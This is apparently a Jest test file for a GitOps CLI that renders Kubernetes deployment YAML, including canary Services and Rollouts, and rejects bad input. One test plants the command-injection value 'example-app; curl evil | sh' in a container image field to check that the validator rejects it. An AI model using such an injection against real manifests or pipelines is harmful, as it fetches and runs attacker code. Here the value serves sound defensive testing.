import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parseAllDocuments } from 'yaml';
import {
  loadRepository,
  renderRepositoryDeployment,
} from '@gitops/descriptors-node';
import { deploymentFiles } from '@gitops/plugin-deployments-common';
import { runCli } from './program';
import {
  capture,
  exampleApp,
  exampleCopy,
  tempRepo,
} from './__testUtils__/cli';

const sha = '439ac5d0c1b2a3f4e5d6c7b8a9f0e1d2c3b4a5f6';

describe('gitops render-deployment', () => {
  it('prints example-app for a commit as one YAML stream kubectl apply -f - takes, with the derived canary Service', async () => {
    const { out, io } = capture();
    expect(
      await runCli(
        [
          'render-deployment',
          exampleApp,
          '--commit',
          sha,
          '--environment',
          'production',
        ],
        io,
      ),
    ).toBe(0);
    const documents = parseAllDocuments(out.stdout);
    expect(documents.flatMap(d => d.errors)).toEqual([]);
    // No empty document: kubectl would refuse one without apiVersion/kind.
    const objects = documents.map(d => d.toJS());
    expect(objects.map(o => `${o.kind}/${o.metadata.name}`)).toEqual([
      'Namespace/example-app',
      'IAMPartialPolicy/example-app-db.iam-user-auth',
      'SQLInstance/example-app-db',
      'Service/example-app',
      'Service/example-canary',
      'AnalysisTemplate/java-backend',
      'Rollout/example-app',
    ]);
    const canary = objects.find(o => o.metadata.name === 'example-canary');
    expect(canary.metadata.annotations['gitops.io/derived-from']).toBe(
      'service/example-app',
    );
    const rollout = objects.find(o => o.kind === 'Rollout');
    expect(rollout.spec.strategy.canary).toMatchObject({
      canaryService: 'example-canary',
      stableService: 'example-app',
    });
    expect(rollout.spec.template.spec.containers[0].image).toBe(
      `example-app:${sha}`,
    );
    expect(rollout.metadata.labels['backstage.io/kubernetes-id']).toBe(
      'example-app',
    );
  });

  it('writes objects.yaml under --out, the bytes deploymentFiles makes and the printed stream holds', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gitops-render-out-'));
    const { out, io } = capture();
    expect(
      await runCli(
        ['render-deployment', exampleApp, '--commit', sha, '--out', dir],
        io,
      ),
    ).toBe(0);
    const target = path.join(dir, 'objects.yaml');
    expect(out.stdout).toBe(`${target}\n`);
    const written = fs.readFileSync(target, 'utf8');

    const rendered = renderRepositoryDeployment(
      await loadRepository(exampleApp),
      { commit: sha, environment: 'production' },
    );
    if (!rendered.ok) throw new Error(JSON.stringify(rendered.problems));
    expect(written).toBe(deploymentFiles(rendered.value)[0].content);

    const printed = capture();
    await runCli(
      ['render-deployment', exampleApp, '--commit', sha],
      printed.io,
    );
    expect(printed.out.stdout).toBe(`# objects.yaml\n${written}`);
  });

  it('renders a canary for a repository holding only a Deployment and a Service', async () => {
    const dir = tempRepo({
      'catalog-info.yaml': `apiVersion: backstage.io/v1alpha1
kind: Component
metadata:
  name: api
spec:
  type: service
  lifecycle: production
  owner: team-a
`,
      'deployment-info.yaml': `version: 1
components:
- componentId: api
  tugboat:
    backends:
    - backend: kubernetes
    automatedCanary:
      canaryService: api-canary
      steps:
      - setWeight: 50
`,
      'kubernetes/deployment.yaml': `apiVersion: apps/v1
kind: Deployment
metadata:
  name: api
spec:
  selector:
    matchLabels: { app: api }
  template:
    metadata:
      labels: { app: api }
    spec:
      containers:
      - name: api
        image: api
`,
      'kubernetes/service.yaml': `apiVersion: v1
kind: Service
metadata:
  name: api
spec:
  selector: { app: api }
  ports:
  - port: 80
`,
    });
    const { out, io } = capture();
    expect(await runCli(['render-deployment', dir, '--commit', sha], io)).toBe(
      0,
    );
    expect(
      parseAllDocuments(out.stdout).map(d => {
        const o = d.toJS();
        return `${o.kind}/${o.metadata.name}`;
      }),
    ).toEqual([
      'Namespace/api',
      'Service/api',
      'Service/api-canary',
      'Rollout/api',
    ]);
  });

  it('exits 1 on a bad commit, naming it', async () => {
    const { out, io } = capture();
    expect(
      await runCli(['render-deployment', exampleApp, '--commit', 'main'], io),
    ).toBe(1);
    expect(out.stdout).toBe('');
    expect(out.stderr).toMatch(/commit/);
  });

  it('exits 1 with positions for a manifest with a shell-injected image', async () => {
    const dir = exampleCopy();
    const file = path.join(dir, 'kubernetes/deployment.yaml');
    fs.writeFileSync(
      file,
      fs
        .readFileSync(file, 'utf8')
        .replace('image: example-app', 'image: "example-app; curl evil | sh"'),
    );
    const { out, io } = capture();
    expect(await runCli(['render-deployment', dir, '--commit', sha], io)).toBe(
      1,
    );
    expect(out.stderr).toMatch(/kubernetes\/deployment\.yaml:\d+:\d+: .*image/);
  });
});
